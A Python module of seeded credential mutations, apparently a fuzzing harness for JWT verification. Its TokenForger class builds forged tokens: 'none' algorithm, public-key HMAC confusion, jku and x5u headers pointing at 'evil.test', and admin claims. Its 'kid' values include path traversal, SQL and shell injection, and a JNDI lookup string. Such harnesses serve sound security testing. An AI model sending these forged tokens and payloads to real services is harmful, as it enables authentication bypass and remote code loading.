"""Ways to change a credential so that it is another one. The same seed makes the same changes."""

import base64
import hashlib
import hmac
import json
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from random import Random
from typing import TypeAlias

Mutation: TypeAlias = Callable[[bytes, Random], bytes]

BASE64URL = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
SPACES = (b" ", b"\t", b"\x0b", b"\x0c", b"\x1c", b"\x1f", b"\x85", b"\xa0", b"\r", b"\n", b"\0")
JUNK = (
    b"=", b"==", b"===", b".", b"..", b"!", b"~", b"%00", b"%2e", b"\xff", b"\xc3\x28",
    b"\xed\xa0\x80", b"\xe2\x80\x8b", b"'",
    b'"', b"\\", b"' OR '1'='1", b"*", b"%", b"_", b"-", b"/", b"+", b"\x7f",
)  # fmt: skip


def flip_bit(value: bytes, chance: Random) -> bytes:
    """One bit is the other one."""
    place = chance.randrange(len(value))
    return value[:place] + bytes([value[place] ^ 1 << chance.randrange(8)]) + value[place + 1 :]


def replace_character(value: bytes, chance: Random) -> bytes:
    """One character is another of the alphabet."""
    place = chance.randrange(len(value))
    return value[:place] + bytes([chance.choice(BASE64URL)]) + value[place + 1 :]


def change_last(value: bytes, chance: Random) -> bytes:
    """The last character differs in bits that a careless decoder drops."""
    try:
        number = BASE64URL.index(value[-1:])
    except ValueError:
        return value[:-1] + b"A"
    return value[:-1] + bytes([BASE64URL[number ^ chance.choice((1, 2, 3, 4, 8, 15))]])


def truncate(value: bytes, chance: Random) -> bytes:
    """The beginning or the end is missing."""
    place = chance.randrange(1, len(value))
    return value[:place] if chance.random() < 0.7 else value[place:]


def delete(value: bytes, chance: Random) -> bytes:
    """A few characters in the middle are missing."""
    place = chance.randrange(len(value))
    return value[:place] + value[place + chance.randrange(1, 4) :]


def insert(value: bytes, chance: Random) -> bytes:
    """Something is there that was not: anywhere, or at an end."""
    place = chance.choice((0, len(value), chance.randrange(len(value))))
    return value[:place] + chance.choice((*JUNK, *SPACES)) + value[place:]


def repeat(value: bytes, chance: Random) -> bytes:
    """All of it, or the end of it, is there more than once."""
    return value + value[-chance.choice((1, 2, 4, 10, len(value))) :] * chance.randrange(1, 4)


def swap_alphabet(value: bytes, chance: Random) -> bytes:
    """Base64 with the other two characters, or percent-encoded."""
    if chance.random() < 0.5:
        return value.replace(b"-", b"+").replace(b"_", b"/") + b"="
    place = chance.randrange(len(value))
    return value[:place] + b"%%%02X" % value[place] + value[place + 1 :]


def swap_case(value: bytes, chance: Random) -> bytes:
    """Letters of the other case, all of them or one part's."""
    place = chance.randrange(len(value))
    return chance.choice((value.swapcase(), value.upper(), value[:place] + value[place:].upper()))


def huge(value: bytes, chance: Random) -> bytes:
    """Far longer than any credential."""
    return value + chance.choice((b"A", b".", b"=", b"\xff")) * chance.choice((300, 20_000))


ANY: Sequence[Mutation] = (
    flip_bit, replace_character, change_last, truncate, delete, insert, insert, repeat,
    swap_alphabet, swap_case, huge,
)  # fmt: skip
"""What can be done to any text."""


def swap_parts(separator: bytes, other: bytes) -> Mutation:
    """Parts of `other`, or its own in another order, between the separators."""

    def swap(value: bytes, chance: Random) -> bytes:
        mine, theirs = value.split(separator), other.split(separator)
        mixed = [chance.choice(pair) for pair in zip(mine, theirs, strict=False)]
        shuffled = chance.sample(mine, len(mine))
        doubled = [*mine, chance.choice(mine)]
        emptied = [b"" if chance.random() < 0.5 else part for part in mine]
        swapped = separator.join(chance.choice((mixed, shuffled, doubled, emptied)))
        return value if swapped == other else swapped

    return swap


@dataclass(frozen=True, kw_only=True)
class TokenForger:
    """Changes what a JSON Web Token says, as somebody would who has no key.

    Attributes:
        known: What that somebody has for a key: public keys as text, guesses.
        evil: Where that somebody has keys of their own to offer.
    """

    known: Sequence[bytes]
    evil: str = "https://evil.test/keys"

    @property
    def mutations(self) -> Sequence[Mutation]:
        """All of them."""
        return (
            self.change_algorithm, self.sign_with_what_is_known, self.offer_a_key,
            self.point_elsewhere, self.change_claims, self.double_members, self.deform_header,
            self.deform_header, self.serialise_otherwise, self.pad,
        )  # fmt: skip

    def change_algorithm(self, token: bytes, chance: Random) -> bytes:
        """Another `alg`, with the old signature or none."""
        header, payload, signature = _parts(token)
        named = chance.choice((
            "none", "None", "NONE", "nOnE", "", " HS256", "hs256", "HS256", "HS384", "HS512",
            "RS256", "RS512", "PS256", "ES256", "ES256K", "ES384", "EdDSA", "ED25519", "dir",
            None, 256, ["HS256"], {"alg": "HS256"}, True,
        ))  # fmt: skip
        changed = _encoded({**header, "alg": named})
        end = chance.choice((b"", signature, b"AA"))
        return b".".join((changed, payload, end)) if changed != token.split(b".")[0] else token

    def sign_with_what_is_known(self, token: bytes, chance: Random) -> bytes:
        """HMAC with a public key, or with a secret that somebody may have chosen."""
        header, payload, _ = _parts(token)
        bits = chance.choice((256, 384, 512))
        changed = _encoded({**header, "alg": f"HS{bits}"})
        return _signed(changed, payload, chance.choice(self.known), f"sha{bits}")

    def offer_a_key(self, token: bytes, chance: Random) -> bytes:
        """The header brings the key that the signature is to be checked with."""
        header, payload, _ = _parts(token)
        key = b"a key of one's own, of thirty-two characters and more"
        offered = {"kty": "oct", "k": _b64(key).decode(), "alg": "HS256", "kid": "own"}
        member = chance.choice((
            {"jwk": offered}, {"jwk": offered, "kid": "own"}, {"jwk": json.dumps(offered)},
            {"x5c": [base64.b64encode(key).decode()]}, {"jwks": {"keys": [offered]}},
        ))  # fmt: skip
        return _signed(_encoded({**header, "alg": "HS256", **member}), payload, key, "sha256")

    def point_elsewhere(self, token: bytes, chance: Random) -> bytes:
        """The header says where a key is: a URL, a file, a row."""
        header, payload, signature = _parts(token)
        kids: tuple[object, ...] = (
            "../../../../dev/null", "/dev/null", "/proc/self/environ", "file:///dev/null",
            "' UNION SELECT 'x' --", "first' OR '1'='1", "; ls", "| cat", "\0first", "first\0",
            "FIRST", " first", "first ", "", None, 0, ["first"], {"kid": "first"}, "x" * 5000,
            "\ud800", "first\u200b", self.evil, "__proto__", "%s%n", "${jndi:ldap://evil.test/}",
        )  # fmt: skip
        members: tuple[dict[str, object], ...] = (
            {"kid": chance.choice(kids)}, {"kid": chance.choice(kids)}, {"jku": self.evil},
            {"x5u": self.evil}, {"crit": ["exp"], "exp": 0}, {"crit": ["b64"], "b64": False},
            {"crit": []}, {"crit": "exp"}, {"b64": False}, {"zip": "DEF"}, {"cty": "JWT"},
        )  # fmt: skip
        member = chance.choice(members)
        key = chance.choice(self.known)
        changed = _encoded({**header, **member})
        if chance.random() < 0.5:
            return _signed(_encoded({**header, **member, "alg": "HS256"}), payload, key, "sha256")
        return b".".join((changed, payload, signature))

    def change_claims(self, token: bytes, chance: Random) -> bytes:
        """Another person, another end, another audience, under the old signature."""
        head, payload, signature = token.split(b".")
        claims = json.loads(_raw(payload))
        changed = chance.choice((
            {"sub": f"user {chance.random()}"}, {"exp": claims["exp"] + chance.randrange(1, 10**9)},
            {"aud": [claims["aud"], "other"]}, {"roles": ["admin"]}, {"iss": self.evil},
            {"nbf": 0}, {"admin": True}, {"sub": claims["sub"], "x": "y" * chance.randrange(9000)},
            {"exp": float(claims["exp"])}, {"exp": 10**400}, {"sub": None}, {"sub": ["ada"]},
        ))  # fmt: skip
        return b".".join((head, _encoded({**claims, **changed}), signature))

    def double_members(self, token: bytes, chance: Random) -> bytes:
        """A name twice in one object, so that two readers may see two values."""
        head, payload, signature = token.split(b".")
        claims, header = _raw(payload), _raw(head)
        doubled = chance.choice((b'"sub":"eve",', b'"exp":99999999999,', b'"sub":"ada",'))
        algorithm = b'"alg":"%s",' % chance.choice((b"none", b"HS256", b"RS256"))
        if chance.random() < 0.5:
            return b".".join((head, _b64(b"{" + doubled + claims[1:]), signature))
        return b".".join((_b64(b"{" + algorithm + header[1:]), payload, signature))

    def deform_header(self, token: bytes, chance: Random) -> bytes:
        """A header that is no JSON object, or one that is hard to read."""
        head, payload, signature = token.split(b".")
        header = _raw(head)
        deep = chance.choice((100, 3000))
        changed = chance.choice((
            b"", b"null", b"[]", b"7", b'"HS256"', b"{", b"{}", header[:-1], header + b" ",
            b" " + header, header.replace(b":", b": "), header + b"\0", b"\xef\xbb\xbf" + header,
            header.decode().encode("utf-16"), b"\xff" + header, header[:-1] + b',"x":"\xff"}',
            b"[" * deep + b"]" * deep, header[:-1] + b',"x":' + b"[" * deep + b"]" * deep + b"}",
            header[:-1] + b',"x":"' + b"y" * 12_000 + b'"}', header[:-1] + b',"x":1e999}',
            header[:-1] + b',"x":NaN}', header[:-1] + b',"x":"\\ud800"}', header[:-1] + b",}",
            header[:-1] + b',"x":' + b"9" * 5000 + b"}",
        ))  # fmt: skip
        return b".".join((_b64(changed), payload, signature))

    def serialise_otherwise(self, token: bytes, chance: Random) -> bytes:
        """The same parts in another form: JSON, JWE's five parts, without dots, reordered."""
        head, payload, signature = token.split(b".")
        members = {"protected": head, "payload": payload, "signature": signature}
        as_json = json.dumps({name: part.decode() for name, part in members.items()}).encode()
        return chance.choice((
            as_json, b".".join((head, b"", payload, signature, b"")), head + payload + signature,
            b".".join((payload, head, signature)), b".".join((head, payload)), token + b".",
            b"." + token, token + b"." + signature, b".".join((head, payload, b"", signature)),
            token.replace(b".", b","), token.replace(b".", b"%2E"), b"..", b".", b"...",
        ))  # fmt: skip

    def pad(self, token: bytes, chance: Random) -> bytes:
        """Parts that decode to the same bytes if one does not look closely (RFC 4648, 3.5)."""
        parts = token.split(b".")
        place = chance.choice((0, 1, 2, 2))
        part = parts[place]
        parts[place] = chance.choice((
            part + b"=" * (-len(part) % 4 or 4), part + b"=" * chance.randrange(1, 9),
            change_last(part, chance), part[:5] + chance.choice((b"\n", b" ", b"!")) + part[5:],
        ))  # fmt: skip
        return b".".join(parts)


def _parts(token: bytes) -> tuple[dict[str, object], bytes, bytes]:
    head, payload, signature = token.split(b".")
    header: dict[str, object] = json.loads(_raw(head))
    return header, payload, signature


def _signed(head: bytes, payload: bytes, key: bytes, digest: str) -> bytes:
    # Not by PyJWT, which refuses to sign with what looks like a public key.
    signed = b".".join((head, payload))
    return b".".join((signed, _b64(hmac.digest(key, signed, getattr(hashlib, digest)))))


def _encoded(value: object) -> bytes:
    return _b64(json.dumps(value, separators=(",", ":")).encode())


def _b64(raw: bytes) -> bytes:
    return base64.urlsafe_b64encode(raw).rstrip(b"=")


def _raw(part: bytes) -> bytes:
    return base64.urlsafe_b64decode(part + b"=" * (-len(part) % 4))
